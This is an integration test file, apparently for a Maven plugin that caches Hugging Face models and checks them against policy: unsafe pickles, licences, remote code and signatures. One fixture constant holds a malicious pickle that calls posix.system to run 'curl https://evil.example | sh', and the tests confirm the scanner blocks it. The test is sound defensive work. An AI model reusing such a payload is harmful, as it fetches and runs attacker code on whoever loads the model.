package io.github.modelcache.it;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.modelcache.it.maven.BuildResult;
import io.github.modelcache.it.maven.MavenBuild;
import io.github.modelcache.it.maven.MavenBuildTest;
import io.github.modelcache.it.maven.MavenBuildTest.On;
import io.github.modelcache.it.maven.Workspace;
import io.github.modelcache.it.project.Config;
import io.github.modelcache.it.project.Pom;
import io.github.modelcache.it.project.Report;
import io.github.modelcache.testing.StandInHub;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

/** What builds say of pull requests that move a pin to a model that is less harmless than before. */
class ModelPolicyIT {

    private static final String ID = "acme/tiny";
    private static final String SAFETENSORS = "\u0002\0\0\0\0\0\0\0{}";
    private static final String PICKLE = "cposix\nsystem\n(S'curl https://evil.example | sh'\ntR.";

    @MavenBuildTest(on = On.THE_USUAL_PAIR)
    void aPickleInThePlaceOfSafetensorsGetsNoNameInTheCache(MavenBuild maven, Workspace workspace) throws Exception {
        try (StandInHub hub = locked(maven, workspace)) {
            workspace.write(origin(workspace).resolve("model.safetensors"), PICKLE);
            hub.add(ID, origin(workspace));
            run(maven, hub, "lock", "all").succeeded();

            run(maven, hub, "download", "")
                    .failedWith(
                            "hf:acme/tiny: model.safetensors: it would call posix.system (unsafe-model)",
                            "To go on, use another model, or accept it with an entry of cache.policy.exceptions"
                                    + " (docs/scanning.md)");

            assertThat(workspace.file(".cache/huggingface/hub/models--acme--tiny/blobs"))
                    .isDirectoryNotContaining(blob -> read(blob).contains("posix"));
        }
    }

    /** The project of a team, and three pull requests to it, each as the build of the pull request sees it. */
    @MavenBuildTest(on = On.THE_USUAL_PAIR)
    void aPullRequestIsStoppedByTheBuild(MavenBuild maven, Workspace workspace) throws Exception {
        try (StandInHub hub = locked(maven, workspace)) {
            declare(workspace, "{\"licenses\": {\"allow\": [\"apache-2.0\"]}, \"remote_code\": \"error\"}");
            commit(workspace);
            maven.cache("verify").offline().run().succeeded();

            workspace.write(origin(workspace).resolve("model.safetensors"), PICKLE);
            requestChange(maven, workspace, hub, "apache-2.0")
                    .failedWith(
                            "hf:acme/tiny: model.safetensors: it would call posix.system (unsafe-model)",
                            "To go on, use another model, or accept it with an entry of cache.policy.exceptions"
                                    + " (docs/scanning.md)");

            workspace.write(origin(workspace).resolve("model.safetensors"), SAFETENSORS);
            workspace.write(origin(workspace).resolve("README.md"), "license: cc-by-nc-4.0");
            requestChange(maven, workspace, hub, "cc-by-nc-4.0")
                    .failedWith(
                            "hf:acme/tiny has the licence cc-by-nc-4.0, but in cache.policy.licenses \"allow\" does not"
                                    + " have it (license-denied)");

            workspace.write(
                    origin(workspace).resolve("config.json"),
                    "{\"auto_map\": {\"AutoModel\": \"modeling_tiny.TinyModel\"}}");
            requestChange(maven, workspace, hub, "apache-2.0")
                    .failedWith("hf:acme/tiny: config.json: its auto_map names code of the repository (remote-code)");

            workspace.git("checkout", "-q", "main");
            maven.cache("verify").offline().run().succeeded();
        }
    }

    private static void commit(Workspace workspace) throws Exception {
        workspace.write(".gitignore", workspace.read(".gitignore") + "target/\n");
        workspace.git("init", "-q", "-b", "main");
        workspace.git("config", "user.name", "Somebody");
        workspace.git("config", "user.email", "somebody@example.org");
        workspace.git("add", "-A");
        workspace.git("commit", "-q", "-m", "Lock a model");
    }

    /** A branch whose lock file has the model's newest commit; what its author's policy says does not come along. */
    private static BuildResult requestChange(MavenBuild maven, Workspace workspace, StandInHub hub, String license)
            throws Exception {
        hub.add(ID, origin(workspace), Map.of("license", license));
        workspace.git("checkout", "-q", "-B", "change", "main");
        declare(workspace, "{}");
        run(maven, hub, "lock", "all").succeeded();
        workspace.git("checkout", "-q", "--", Config.FILE);
        workspace.git("commit", "-q", "-a", "-m", "Update the model");
        return maven.cache("download", "verify")
                .property("cache.endpoint", hub.endpoint().toString())
                .run();
    }

    @MavenBuildTest(on = On.THE_USUAL_PAIR)
    void anotherLicenseIsReportedUntilSomebodyAcceptsIt(MavenBuild maven, Workspace workspace) throws Exception {
        String changed =
                "The licence of hf:acme/tiny was apache-2.0 when it was locked before, and now is cc-by-nc-4.0";
        try (StandInHub hub = locked(maven, workspace)) {
            workspace.write(origin(workspace).resolve("README.md"), "license: cc-by-nc-4.0");
            hub.add(ID, origin(workspace), Map.of("license", "cc-by-nc-4.0"));
            run(maven, hub, "lock", "all").succeeded().says("[WARNING] " + changed + " (license-changed)");
            run(maven, hub, "download", "").succeeded();

            maven.cache("verify").offline().run().succeeded().says("[WARNING] license-changed: " + changed);
            assertThat(Report.read(workspace.file(Report.VERIFY))
                            .finding("license-changed")
                            .path("fix")
                            .asString())
                    .isEqualTo("read the new licence. To accept it, delete the line \"formerLicense\" of this model in"
                            + " config/models.lock.json");

            workspace.write(Config.LOCK, workspace.read(Config.LOCK).replaceAll("(?m)^ *\"formerLicense\".*\\R", ""));
            maven.cache("verify").offline().run().succeeded().neverSays("license-changed");

            declare(workspace, "{\"licenses\": {\"deny\": [\"cc-by-nc-*\"]}}");
            maven.cache("verify")
                    .offline()
                    .run()
                    .failedWith("license-denied: hf:acme/tiny has the licence cc-by-nc-4.0, but in"
                            + " cache.policy.licenses \"deny\" has \"cc-by-nc-*\"");
        }
    }

    @MavenBuildTest(on = On.THE_USUAL_PAIR)
    void codeOfTheRepositoryIsReported(MavenBuild maven, Workspace workspace) throws Exception {
        try (StandInHub hub = locked(maven, workspace)) {
            workspace
                    .write(
                            origin(workspace).resolve("config.json"),
                            "{\"auto_map\": {\"AutoModel\": \"modeling_tiny.TinyModel\"}}")
                    .write(origin(workspace).resolve("modeling_tiny.py"), "import os");
            hub.add(ID, origin(workspace));
            run(maven, hub, "lock", "all")
                    .succeeded()
                    .says("[WARNING] hf:acme/tiny contains modeling_tiny.py, code that can run when the model is loaded"
                            + " (remote-code)");
            run(maven, hub, "download", "").succeeded();
            maven.cache("verify")
                    .offline()
                    .run()
                    .succeeded()
                    .says("[WARNING] remote-code: ", "config.json: its auto_map names code of the repository");

            declare(workspace, "{\"remote_code\": \"error\"}");
            maven.cache("verify").offline().run().failedWith("remote-code: hf:acme/tiny contains modeling_tiny.py");
        }
    }

    @MavenBuildTest(on = On.THE_USUAL_PAIR)
    void aModelWithoutTheRequiredSignatureStopsTheBuild(MavenBuild maven, Workspace workspace) throws Exception {
        try (StandInHub hub = locked(maven, workspace)) {
            declare(workspace, "{\"signatures\": [{\"model\": \"hf:acme/*\", \"key\": \"config/keys/acme.pem\"}]}");

            run(maven, hub, "download", "")
                    .failedWith("hf:acme/tiny has no signature: model.sig is not among its locked files, but"
                            + " cache.policy.signatures requires it (signature-missing)");
            maven.cache("verify").offline().run().failedWith("signature-missing: hf:acme/tiny has no signature");
        }
    }

    private static StandInHub locked(MavenBuild maven, Workspace workspace) throws IOException {
        workspace
                .write(origin(workspace).resolve("config.json"), "{\"hidden\": 4}")
                .write(origin(workspace).resolve("model.safetensors"), SAFETENSORS)
                .write("pom.xml", Pom.usual().toString());
        declare(workspace, "{}");
        StandInHub hub = StandInHub.start();
        hub.add(ID, origin(workspace));
        maven.cache("init", "download", "verify")
                .property("cache.endpoint", hub.endpoint().toString())
                .run()
                .succeeded();
        return hub;
    }

    private static void declare(Workspace workspace, String policy) throws IOException {
        workspace.write(Config.FILE, "{\"cache\": {\"models\": [\"hf:" + ID + "\"], \"policy\": " + policy + "}}");
    }

    private static Path origin(Workspace workspace) {
        return workspace.root().resolve("origin");
    }

    private static String read(Path file) {
        try {
            return Files.readString(file);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static BuildResult run(MavenBuild maven, StandInHub hub, String goal, String update) throws IOException {
        MavenBuild build =
                maven.cache(goal).property("cache.endpoint", hub.endpoint().toString());
        return (update.isEmpty() ? build : build.property("cache.update", update)).run();
    }
}
